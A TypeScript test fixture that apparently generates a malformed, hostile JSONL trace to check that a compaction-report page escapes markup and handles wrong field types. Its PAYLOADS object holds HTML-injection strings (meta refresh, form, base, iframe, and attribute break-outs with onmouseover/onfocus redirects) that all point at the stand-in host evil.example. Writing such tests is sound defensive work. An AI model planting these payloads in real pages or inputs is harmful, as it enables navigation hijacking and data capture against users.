/**
 * A hostile JSONL trace for the report: every field the page prints carries markup or a value
 * of the wrong type (strings for numbers, objects for strings, 1e999 for a count), as a trace
 * file from elsewhere may. The payloads try each way a page can be taken over without a
 * script: a meta refresh (navigation), a style, a form, a base URL, an image, a stylesheet
 * link, an iframe, and attribute break-outs.
 */

/** Where every payload points; nothing may ever be requested from it. */
export const EVIL = 'https://evil.example';

/** Payloads, one per way in. */
export const PAYLOADS = Object.freeze({
  refresh: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  style: '<style>body{background:#ff0000 !important}</style>',
  form: `<form action="${EVIL}/form"><input name="q" value="secret"><button>go</button></form>`,
  base: `<base href="${EVIL}/">`,
  image: `<img src="${EVIL}/pixel.png">`,
  link: `<link rel="stylesheet" href="${EVIL}/sheet.css">`,
  iframe: `<iframe src="${EVIL}/frame"></iframe>`,
  attribute: `x" style="background:red" onmouseover="location='${EVIL}/attr'" data-x="`,
  singleQuoted: `x' autofocus onfocus='location="${EVIL}/focus"' data-y='`,
  svg: `</text><image href="${EVIL}/svg.png"/><text>`,
});

/** One event line with a raw JSON properties text (so `1e999` reaches the parser as written). */
function line(name: string, operationId: string, sessionId: unknown, properties: string): string {
  return `{"type":"span","name":"${name}","traceId":"t","spanId":"s","sessionId":${JSON.stringify(sessionId)},"operationId":"${operationId}","startTime":1,"endTime":2,"status":"ok","properties":${properties}}`;
}

const json = (value: unknown) => JSON.stringify(value);

/**
 * The hostile trace as JSONL text: one untriggered call, then two compactions whose every
 * printed field is hostile, then a usage event and an error outside compactions.
 */
export function hostileTraceText(): string {
  const p = PAYLOADS;
  const session = 'hostile-session';
  const lines = [
    line(
      'compact.token_estimate',
      'op-1',
      p.refresh,
      `{"model":${json(p.refresh)},"tEst":1000,"maxTokens":32000,"usagePct":0.03,"usagePercent":3,"breakdown":{},"messageCount":2,"countedFresh":2,"callNumber":1}`,
    ),
    line(
      'compact.trigger_decision',
      'op-1',
      p.refresh,
      `{"triggered":false,"reason":"below","policy":{},"tEst":1000,"triggerTokens":27200,"budget":30000,"manual":false}`,
    ),
  ];
  for (const [n, op] of [
    [2, 'op-2'],
    [3, 'op-3'],
  ] as const) {
    lines.push(
      line(
        'compact.token_estimate',
        op,
        session,
        `{"model":"m","tEst":${n === 2 ? '1e999' : '30000'},"maxTokens":${json(p.refresh)},"usagePct":1,"usagePercent":100,"breakdown":{},"messageCount":9,"countedFresh":1,"callNumber":${json(p.attribute)}}`,
      ),
      line(
        'compact.trigger_decision',
        op,
        session,
        `{"triggered":true,"reason":${json(p.style)},"policy":{},"tEst":30000,"triggerTokens":${json(p.form)},"budget":{"x":1},"targetTokens":[1],"manual":${json(p.base)},"note":${json(p.image)},"kept":${json(p.link)}}`,
      ),
      line(
        'compact.summary_created',
        op,
        session,
        `{"strategy":${json(p.form)},"summarizer":${json(p.style)},"inputMessages":${json(p.iframe)},"inputTokens":1,"summaryTokens":${json(p.refresh)},"compressionRatio":1,"version":${json(p.refresh)},"latencyMs":1,"summary":${json(`## Task\n- ${p.refresh}\n## Ids\n- ${p.svg}`)}}`,
      ),
      line(
        'compact.reduction',
        op,
        session,
        `{"level":${json(p.attribute)},"count":${json(p.iframe)},"tokensSaved":1e999,"refs":[${json(p.singleQuoted)},{"toString":"<b>"},7],"version":${json(p.refresh)}}`,
      ),
      line(
        'compact.reduction',
        op,
        session,
        `{"level":{"x":"<style>"},"count":1,"tokensSaved":1,"refs":"<meta>","version":1}`,
      ),
      line(
        'compact.pruned_messages',
        op,
        session,
        `{"prunedCount":${json(p.form)},"prunedIds":[],"kept":{"pinned":${json(p.style)},"recentTurns":1,"toolPairs":1},"tokensBefore":${json(p.svg)},"tokensAfter":${json(p.refresh)},"version":${json(p.refresh)},"pinnedLabels":[]}`,
      ),
      line(
        'compact.error',
        op,
        session,
        `{"errorType":${json(p.base)},"message":{"html":${json(p.form)}},"fallback":${json(p.singleQuoted)}}`,
      ),
    );
  }
  lines.push(
    line(
      'compact.usage',
      'op-4',
      session,
      `{"inputTokens":${json(p.image)},"cacheReadTokens":1,"cacheWriteTokens":1,"uncachedTokens":1,"outputTokens":1,"hitShare":${json(p.style)},"billedInputEquivalent":"1e3","sessionBilledInputEquivalent":${json(p.refresh)},"sessionHitShare":0.5,"prefixRewrites":${json(p.link)}}`,
    ),
    line(
      'compact.error',
      'op-5',
      p.refresh,
      `{"errorType":${json(p.iframe)},"message":${json(p.refresh)},"fallback":7}`,
    ),
  );
  return `${lines.join('\n')}\n`;
}
